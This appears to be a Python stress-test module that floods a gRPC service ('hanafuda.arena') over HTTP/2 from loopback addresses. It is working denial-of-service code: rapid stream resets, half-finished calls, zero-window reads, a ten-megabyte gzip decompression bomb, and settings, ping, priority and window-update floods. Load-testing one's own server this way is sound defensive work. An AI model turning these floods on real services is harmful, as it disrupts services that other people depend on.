"""Floods of HTTP/2 frames that ask for nothing: calls taken back at once, settings, pings, priorities, windows.

Each connection sends one kind of them as fast as they are taken, and begins anew where it is closed.
"""

import gzip
import itertools
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator

_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW = 0, 1, 2, 3, 4, 6, 8
_END_STREAM, _END_HEADERS = 1, 4
_BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_AT_ONCE = 64
PAUSE_S = 0.005
"""After so many frames: who sends them is to take less of this machine's processors than they do at the other end."""
_ZEROS = gzip.compress(bytes(10_000_000))


def frame(kind: int, stream: int, payload: bytes, flags: int = 0) -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _text(text: bytes) -> bytes:
    return bytes((len(text),)) + text


def _head(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The header of a gRPC call: POST, http, its path, an authority, and what gRPC asks for besides."""
    more = ((b"content-type", b"application/grpc"), (b"te", b"trailers"), *more)
    fields = b"".join(b"\x00" + _text(name) + _text(value) for name, value in more)
    return b"\x83\x86\x04" + _text(path) + b"\x01" + _text(b"arena") + fields


def _taken_back(stream: int) -> bytes:
    head = _head(b"/hanafuda.arena.v1.BotService/ListBots")
    return frame(_HEADERS, stream, head, _END_HEADERS) + frame(_RESET, stream, struct.pack(">I", 8))


def _without_end(stream: int) -> bytes:
    """A call whose message begins, and of which no more comes."""
    head = _head(b"/hanafuda.arena.v1.BotService/GetBot")
    return frame(_HEADERS, stream, head, _END_HEADERS) + frame(_DATA, stream, b"\x00\x00\x00\xff\xff")


def _unread(stream: int) -> bytes:
    """A whole call, whose answer nobody has room for."""
    head = _head(b"/hanafuda.arena.v1.VariantService/ListVariants")
    call = frame(_HEADERS, stream, head, _END_HEADERS) + frame(_DATA, stream, bytes(5), _END_STREAM)
    return frame(_SETTINGS, 0, struct.pack(">HI", 4, 0)) + call


def _bomb(stream: int) -> bytes:
    """A small message that unpacked has ten megabytes."""
    head = _head(b"/hanafuda.arena.v1.VariantService/GetVariant", (b"grpc-encoding", b"gzip"))
    message = b"\x01" + struct.pack(">I", len(_ZEROS)) + _ZEROS
    return frame(_HEADERS, stream, head, _END_HEADERS) + frame(_DATA, stream, message, _END_STREAM)


KINDS: tuple[Callable[[int], bytes], ...] = (
    _taken_back,
    _without_end,
    _unread,
    _bomb,
    lambda _: frame(_SETTINGS, 0, struct.pack(">HI", 1, 4_096) * 20),
    lambda stream: frame(_PING, 0, struct.pack(">Q", stream)),
    lambda stream: frame(_PRIORITY, stream, struct.pack(">IB", stream - 1 if stream > 1 else 3, 7)),
    lambda _: frame(_WINDOW, 0, struct.pack(">I", 1)),
)


def flood(where: tuple[str, int], until: float, kind: Callable[[int], bytes], source: str) -> None:
    """Send frames of a kind from an address until a moment of the monotonic clock."""
    while time.monotonic() < until:
        try:
            with socket.create_connection(where, 3, (source, 0)) as connection:
                connection.sendall(_BEGINNING + frame(_SETTINGS, 0, b""))
                for parts in _batches(kind):
                    if time.monotonic() >= until:
                        break
                    connection.sendall(parts)
                    time.sleep(PAUSE_S)
        except OSError:
            time.sleep(0.01)


def _batches(kind: Callable[[int], bytes]) -> Iterator[bytes]:
    """Frames of a kind, `_AT_ONCE` at a time: a stream's number is odd, and higher than those before."""
    for batch in itertools.count():
        numbers = range(2 * _AT_ONCE * batch + 1, 2 * _AT_ONCE * (batch + 1), 2)
        if numbers[-1] >= 1 << 31:
            return
        yield b"".join(map(kind, numbers))


def floods(where: tuple[str, int], until: float) -> None:
    """Send all kinds at once, each from an address of its own."""
    threads = [
        threading.Thread(target=flood, args=(where, until, kind, f"127.0.1.{place + 1}"))
        for place, kind in enumerate(KINDS)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
